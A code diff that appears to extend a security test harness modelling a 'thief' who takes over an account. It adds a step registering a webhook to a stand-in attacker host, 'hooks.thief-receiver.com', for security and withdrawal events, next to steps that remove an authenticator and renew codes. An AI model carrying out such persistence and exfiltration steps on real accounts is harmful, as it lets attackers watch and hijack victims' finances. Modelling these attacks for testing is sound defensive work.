@@ -158,6 +158,16 @@ export const STEPS: Record<string, Step> = {
         body: { name: 'Of a thief', scope: 'read', days: 365 },
       }),
     ),
+  addWebhook: async (world, thief) =>
+    isSignedIn(thief) &&
+    succeeded(
+      await askWithProof(world, thief, 'addWebhook', {
+        body: {
+          address: 'https://hooks.thief-receiver.com/',
+          topics: ['security', 'withdrawals'],
+        },
+      }),
+    ),
   removeAuthenticator: async (world, thief) =>
     isSignedIn(thief) && succeeded(await askWithProof(world, thief, 'removeAuthenticator')),
   renewCodes: async (world, thief) =>
